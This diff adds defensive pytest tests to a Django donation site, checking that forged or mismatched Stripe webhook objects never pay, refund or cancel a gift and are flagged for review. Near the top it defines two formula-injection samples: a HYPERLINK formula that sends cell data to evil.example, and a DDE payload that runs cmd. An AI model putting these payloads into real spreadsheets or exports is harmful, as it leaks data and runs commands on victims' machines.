@@ -6,14 +6,223 @@ client_reference_id. Those objects are signed by Stripe like ours, so the webhoo
 signature proves nothing about who made them.
 """
 
+import logging
 import time
 
 import pytest
+from django.contrib.auth.models import Permission, User
+from django.test import Client
 
-from membership_forms.models import StripeEvent
+from membership_forms.models import Donation, DonationSubscription, Receipt, StripeEvent
 
 from .stripe_server import event, sign
-from .test_donations import post_event
+from .test_donations import deliver, online_donation, post_event
+
+ADMIN = "/admin/membership-forms/donations/"
+LOGGER = "membership_forms.services.stripe_events"
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Receipt")'
+DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+def treasurer(db):
+    user = User.objects.create_user("treasurer", password="x" * 12)
+    user.user_permissions.add(
+        *Permission.objects.filter(codename__in=["access_admin", "view_donation"])
+    )
+    staff = Client()
+    staff.force_login(user)
+    return staff
+
+
+def needing_attention(staff) -> str:
+    response = staff.get(ADMIN + "?needs_attention=true")
+    assert response.status_code == 200
+    return response.content.decode()
+
+
+def assert_untouched(donation, status="pending"):
+    donation.refresh_from_db()
+    assert donation.status == status
+    assert not Receipt.objects.filter(donation=donation).exists()
+
+
+# --- Checkout Sessions ----------------------------------------------------------------------
+
+
+def test_a_checkout_session_the_site_did_not_make_never_pays_a_gift(
+    form_pages, stripe_api, api, client, treasurer, caplog
+):
+    donation = online_donation(api, form_pages["donation"]["en"], stripe_api, amount="5000.00")
+    other = online_donation(api, form_pages["donation"]["en"], stripe_api, amount="20.00")
+    # 1 USD paid through a Payment Link of the same account, naming the 5,000 USD gift in
+    # its metadata and client_reference_id.
+    stripe_api.vars.update(donation_id=str(donation.pk), amount="100")
+    stripe_api.route("GET", "/v1/checkout/sessions/cs_link_1", "checkout_session_paid")
+    with caplog.at_level(logging.WARNING, logger=LOGGER):
+        stored = deliver(client, "evt_link", "checkout.session.completed", "cs_link_1", "x")
+
+    assert stored.status == "ignored"
+    assert_untouched(donation)
+    assert donation.payment_intent_id is None
+    assert "cs_link_1" in donation.payment_issue
+    assert "cs_link_1" in caplog.text
+    listing = needing_attention(treasurer)
+    assert donation.submission.reference in listing
+    assert other.submission.reference not in listing
+
+
+@pytest.mark.parametrize(
+    ("frequency", "fixture", "changes"),
+    [
+        ("one_time", "checkout_session_paid", {"amount": "100"}),
+        ("one_time", "checkout_session_paid", {"currency": "eur"}),
+        ("one_time", "checkout_session_subscription_paid", {}),
+        ("monthly", "checkout_session_paid", {}),
+    ],
+    ids=["amount", "currency", "subscription-for-one-off", "payment-for-monthly"],
+)
+def test_the_sites_own_session_with_another_amount_currency_or_mode_is_flagged(
+    form_pages, stripe_api, api, client, treasurer, frequency, fixture, changes
+):
+    donation = online_donation(
+        api, form_pages["donation"]["en"], stripe_api, amount="5000.00", frequency=frequency
+    )
+    stripe_api.vars.update(changes)
+    session = donation.checkout_session_id
+    stripe_api.route("GET", f"/v1/checkout/sessions/{session}", fixture)
+    deliver(client, "evt_cs", "checkout.session.completed", session, "checkout.session")
+
+    assert_untouched(donation)
+    assert session in donation.payment_issue
+    assert donation.submission.reference in needing_attention(treasurer)
+    if donation.subscription_id:
+        assert DonationSubscription.objects.get().stripe_subscription_id is None
+
+
+# --- Payment intents and charges ------------------------------------------------------------
+
+
+def test_a_payment_intent_the_site_did_not_make_never_moves_a_gift(
+    form_pages, stripe_api, api, client, treasurer
+):
+    donation = online_donation(api, form_pages["donation"]["en"], stripe_api, amount="5.00")
+    session = donation.checkout_session_id
+    # The gift's own session is open, its own payment intent is pi_test_<pk>.
+    stripe_api.route("GET", f"/v1/checkout/sessions/{session}", "checkout_session_attempted")
+    for event_type, fixture in [
+        ("payment_intent.payment_failed", "payment_intent_failed"),
+        ("payment_intent.succeeded", "payment_intent_succeeded"),
+    ]:
+        stripe_api.route("GET", "/v1/payment_intents/pi_other", fixture)
+        deliver(client, f"evt_{fixture}", event_type, "pi_other", "payment_intent")
+
+    assert_untouched(donation)
+    assert donation.payment_intent_id is None
+    assert "pi_other" in donation.payment_issue
+    assert donation.submission.reference in needing_attention(treasurer)
+
+
+def test_the_sites_own_payment_intent_with_another_amount_is_flagged(
+    form_pages, stripe_api, api, client
+):
+    donation = online_donation(api, form_pages["donation"]["en"], stripe_api, amount="5000.00")
+    session = donation.checkout_session_id
+    stripe_api.route("GET", f"/v1/checkout/sessions/{session}", "checkout_session_attempted")
+    pi = f"pi_test_{donation.pk}"
+    stripe_api.vars["amount"] = "100"
+    stripe_api.route("GET", f"/v1/payment_intents/{pi}", "payment_intent_succeeded")
+    deliver(client, "evt_pi", "payment_intent.succeeded", pi, "payment_intent")
+
+    assert_untouched(donation)
+    assert pi in donation.payment_issue
+
+
+def test_a_payment_intent_before_its_session_event_still_pays_the_gift(
+    form_pages, stripe_api, api, client
+):
+    donation = online_donation(api, form_pages["donation"]["en"], stripe_api)
+    session = donation.checkout_session_id
+    stripe_api.route("GET", f"/v1/checkout/sessions/{session}", "checkout_session_paid")
+    pi = f"pi_test_{donation.pk}"
+    stripe_api.route("GET", f"/v1/payment_intents/{pi}", "payment_intent_succeeded")
+    deliver(client, "evt_pi", "payment_intent.succeeded", pi, "payment_intent")
+    donation.refresh_from_db()
+    assert donation.status == "paid" and donation.payment_intent_id == pi
+    assert donation.payment_issue == ""
+    assert Receipt.objects.filter(donation=donation).count() == 1
+
+
+def test_a_refund_of_a_charge_the_site_did_not_make_changes_nothing(
+    form_pages, stripe_api, api, client
+):
+    donation = online_donation(api, form_pages["donation"]["en"], stripe_api)
+    session = donation.checkout_session_id
+    stripe_api.route("GET", f"/v1/checkout/sessions/{session}", "checkout_session_paid")
+    deliver(client, "evt_paid", "checkout.session.completed", session, "checkout.session")
+    # Another payment (pi_other) whose metadata names the gift is refunded.
+    stripe_api.route("GET", "/v1/charges/ch_other", "charge_refunded_other")
+    stripe_api.route("GET", "/v1/payment_intents/pi_other", "payment_intent_succeeded")
+    deliver(client, "evt_refund", "charge.refunded", "ch_other", "charge")
+
+    donation.refresh_from_db()
+    assert donation.status == "paid"
+    assert "pi_other" in donation.payment_issue
+
+
+# --- Monthly gifts --------------------------------------------------------------------------
+
+
+def test_a_subscription_the_site_did_not_make_never_pays_or_cancels_a_monthly_gift(
+    form_pages, stripe_api, api, client, treasurer
+):
+    donation = online_donation(
+        api, form_pages["donation"]["en"], stripe_api, amount="5000.00", frequency="monthly"
+    )
+    session = donation.checkout_session_id
+    # The gift's own session made sub_test_<pk>; sub_other names the gift in its metadata.
+    stripe_api.route(
+        "GET", f"/v1/checkout/sessions/{session}", "checkout_session_subscription_paid"
+    )
+    stripe_api.route("GET", "/v1/subscriptions/sub_other", "subscription_active")
+    stripe_api.route("GET", "/v1/invoices/in_other", "invoice_paid_other")
+    deliver(client, "evt_in_other", "invoice.paid", "in_other", "invoice")
+    stripe_api.route("GET", "/v1/subscriptions/sub_other", "subscription_canceled")
+    deliver(client, "evt_sub_other", "customer.subscription.deleted", "sub_other", "x")
+
+    assert_untouched(donation)
+    subscription = DonationSubscription.objects.get()
+    assert subscription.stripe_subscription_id is None and subscription.status == "pending"
+    assert "sub_other" in donation.payment_issue
+    assert Donation.objects.count() == 1
+    assert donation.submission.reference in needing_attention(treasurer)
+
+    # The gift's own subscription still goes through.
+    deliver(client, "evt_cs", "checkout.session.completed", session, "checkout.session")
+    donation.refresh_from_db()
+    assert donation.status == "paid"
+    subscription.refresh_from_db()
+    assert subscription.stripe_subscription_id == f"sub_test_{donation.pk}"
+
+
+def test_an_invoice_of_the_sites_subscription_with_another_amount_is_flagged(
+    form_pages, stripe_api, api, client
+):
+    donation = online_donation(api, form_pages["donation"]["en"], stripe_api, frequency="monthly")
+    session = donation.checkout_session_id
+    stripe_api.route(
+        "GET", f"/v1/checkout/sessions/{session}", "checkout_session_subscription_paid"
+    )
+    deliver(client, "evt_cs", "checkout.session.completed", session, "checkout.session")
+    stripe_api.vars["amount"] = "100"
+    stripe_api.route("GET", "/v1/invoices/in_test_second", "invoice_paid")
+    deliver(client, "evt_in2", "invoice.paid", "in_test_second", "invoice")
+
+    second = Donation.objects.get(invoice_id="in_test_second")
+    assert_untouched(second)
+    assert "in_test_second" in second.payment_issue
+    assert Receipt.objects.count() == 1  # the first month's only
+
 
 # --- Webhook bodies and signatures ----------------------------------------------------------
 
